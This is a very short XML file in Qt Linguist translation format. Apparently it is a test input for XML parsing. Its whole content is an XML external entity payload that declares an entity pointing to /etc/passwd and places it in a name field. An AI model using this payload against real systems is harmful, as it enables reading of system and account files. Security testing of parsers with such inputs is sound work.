<!DOCTYPE TS [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<TS><context><name>&x;</name></context></TS>
